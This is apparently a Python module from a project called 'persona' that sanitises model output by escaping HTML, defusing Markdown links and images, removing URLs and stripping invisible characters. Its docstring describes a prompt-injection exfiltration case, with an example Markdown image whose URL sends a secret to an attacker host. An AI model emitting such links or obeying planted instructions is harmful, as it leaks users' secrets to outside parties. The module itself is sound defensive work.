"""Make model-written text safe to render: HTML-escaped, Markdown links and images defused.

Model output is untrusted (OWASP LLM05, 2025): a document planted with
instructions can make a model emit ``![x](https://attacker/?q=secret)``, whose
image a Markdown renderer fetches on display. Everything a model wrote passes
through :func:`neutralize_markdown` before it is put in Markdown and through
:func:`escape_html` before it is put in HTML.

Both also drop invisible characters (:func:`persona.text.strip_invisible`: the
whole Unicode format category, soft hyphens and tag characters included) that
can hide text from a reader.
"""

from __future__ import annotations

import html
import re

from persona.text import strip_invisible

__all__ = ["defang_urls", "escape_html", "neutralize_markdown", "strip_invisible"]

# Anything a renderer could turn into a link or fetch: schemes, protocol-relative
# and www. addresses. Matched greedily up to whitespace or a closing bracket.
_URL = re.compile(
    r"(?i)\b(?:(?:https?|ftp|file|javascript|vbscript|mailto|blob):|data:\w+/)[^\s<>\"')\]]+"
    r"|(?<![\w/])//[^\s<>\"')\]]+"
    r"|\bwww\.[^\s<>\"')\]]+"
)
# The characters that can open a link, image, raw HTML, autolink, emphasis, code
# span, heading or table cell anywhere in a line. ``(`` and ``.`` stay readable:
# without an unescaped ``]`` no link can form.
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_\[\]<>!|~&#$])")
# At the start of a line, these would begin a list, quote or heading.
_BLOCK_START = re.compile(r"^(\s*)([-+=]|\d+[.)])", re.MULTILINE)

LINK_REMOVED = "(link removed)"


def defang_urls(text: str) -> str:
    """Replace every URL-like token with ``(link removed)``."""
    return _URL.sub(LINK_REMOVED, text)


def neutralize_markdown(text: str, *, inline: bool = True) -> str:
    """Return ``text`` so that a Markdown renderer shows it literally.

    URLs are removed; every character that could open an image, link, raw HTML,
    autolink, emphasis or code span is backslash-escaped, as are list and quote
    markers at a line start; with ``inline`` line breaks become spaces, so the
    text cannot start a block of its own.
    """
    clean = defang_urls(strip_invisible(text))
    if inline:
        clean = " ".join(clean.split())
    clean = _MARKDOWN_SPECIAL.sub(r"\\\1", clean)
    return _BLOCK_START.sub(_escape_block_start, clean)


def _escape_block_start(match: re.Match[str]) -> str:
    marker = match.group(2)
    if marker[0].isdigit():  # "1." -> "1\." keeps the number, loses the list
        return f"{match.group(1)}{marker[:-1]}\\{marker[-1]}"
    return f"{match.group(1)}\\{marker}"


def escape_html(text: str) -> str:
    """HTML-escape ``text`` (quotes included) after removing invisible characters.

    URLs are defanged as well: escaped text cannot link, but a visible attacker
    URL still invites a click.
    """
    return html.escape(defang_urls(strip_invisible(text)), quote=True)
